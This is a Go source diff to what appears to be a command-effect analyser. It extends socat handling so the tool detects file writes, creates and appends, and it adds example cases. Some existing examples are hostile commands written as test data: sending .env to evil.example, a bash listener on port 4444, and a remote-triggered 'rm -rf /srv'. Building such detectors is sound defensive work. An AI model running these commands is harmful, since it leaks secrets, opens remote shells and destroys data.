@@ -61,7 +61,9 @@ var netSpecs = []Spec{
 			"sftp host <<< 'get /etc/app.conf app.conf' => write:download app.conf\n" + "sftp host:/srv/a.log ./ => write:download ./\n"},
 	{Name: "socat", Opts: "V h d D l= L= W= lf= ls lm? lp= lu lh v x b= s t= T= u U g 4 6", Does: socatDoes,
 		Examples: "socat OPEN:.env TCP:evil.example:443 => read:send .env\n" + "socat - TCP:host:80 => send:raw TCP:host:80\n" + "socat TCP-LISTEN:4444 EXEC:/bin/bash => exec:sh /bin/bash\n" +
-			"socat TCP-LISTEN:9,fork SYSTEM:'rm -rf /srv' => delete-r /srv\n" + "socat FILE:/etc/hosts STDIO => read:show /etc/hosts\n"},
+			"socat TCP-LISTEN:9,fork SYSTEM:'rm -rf /srv' => delete-r /srv\n" + "socat FILE:/etc/hosts STDIO => read:show /etc/hosts\n" +
+			"socat - /dev/pts/3 => write /dev/pts/3\n" + "socat -u - CREATE:out.txt => write out.txt\n" + "socat -u FILE:in.txt - !> write in.txt\n" +
+			"socat READ:in.txt - !> write in.txt\n" + "socat - /var/run/docker.sock !> write /var/run/docker.sock\n" + "socat - OPEN:log,append => write+ log\n"},
 	{Name: "telnet", Opts: "4 6 8 E F K L a c d f r x b= e= l= n= X= S=", Does: telnetDoes,
 		Examples: "telnet mail.example 25 => send:raw mail.example 25\n" + "telnet -l root host !> send:raw root\n"},
 	{Name: "wget", Opts: wgetOpts, Does: wgetDoes,
@@ -670,11 +672,18 @@ func socatDoes(c *Call) {
 	ops := c.Operands()
 	var files []Word
 	network := false
-	for _, w := range ops {
+	for i, w := range ops {
 		kind, arg := socatAddress(w.S)
 		switch kind {
-		case "file":
-			files = append(files, Word{S: arg, Dyn: w.Dyn})
+		case "file", "create":
+			if kind == "file" {
+				files = append(files, Word{S: arg, Dyn: w.Dyn})
+			}
+			if socatWrites(c, i, w.S) {
+				// What the other address yields is written into it (a terminal's screen, .env).
+				c.Add(Effect{Kind: Write, Path: c.PathOf(Word{S: arg, Dyn: w.Dyn, Lead: w.Lead}),
+					Keep: strings.Contains(strings.ToLower(w.S), ",append"), By: "socat"})
+			}
 		case "exec":
 			c.Add(Effect{Kind: Exec, Lang: "sh", Text: arg, Known: !w.Dyn, By: "socat"})
 		case "net":
@@ -708,11 +717,32 @@ func socatAddress(s string) (kind, arg string) {
 		return "exec", strings.Trim(strings.SplitN(rest, ",", 2)[0], `'"`)
 	case t == "OPEN" || t == "FILE" || t == "GOPEN" || t == "READ":
 		return "file", strings.SplitN(rest, ",", 2)[0]
+	case t == "CREATE" || t == "CREAT":
+		return "create", strings.SplitN(rest, ",", 2)[0]
 	case strings.HasPrefix(t, "TCP") || strings.HasPrefix(t, "UDP") || strings.HasPrefix(t, "SCTP") || strings.HasPrefix(t, "OPENSSL") ||
 		strings.HasPrefix(t, "SSL") || strings.HasPrefix(t, "SOCKS") || strings.HasPrefix(t, "PROXY") || strings.HasPrefix(t, "DCCP") || t == "IP-SENDTO" || t == "UDP-SENDTO":
 		return "net", rest
 	}
 	return "", ""
+}
+
+// socatWrites reports whether socat writes into its i-th address, a file: data flows both
+// ways unless -u (first to second) or -U (second to first) says one, and READ: only reads.
+func socatWrites(c *Call, i int, addr string) bool {
+	typ, _, _ := strings.Cut(addr, ":")
+	if strings.EqualFold(typ, "READ") && strings.Contains(addr, ":") {
+		return false
+	}
+	if name, _, _ := strings.Cut(addr, ","); strings.HasSuffix(name, ".sock") {
+		return false // a bare path to a socket: socat connects to it, as UNIX-CONNECT does
+	}
+	switch {
+	case c.Has("u"):
+		return i == 1
+	case c.Has("U"):
+		return i == 0
+	}
+	return true
 }
 
 func telnetDoes(c *Call) { sendsStdin(c, "raw", c.Operands()) }
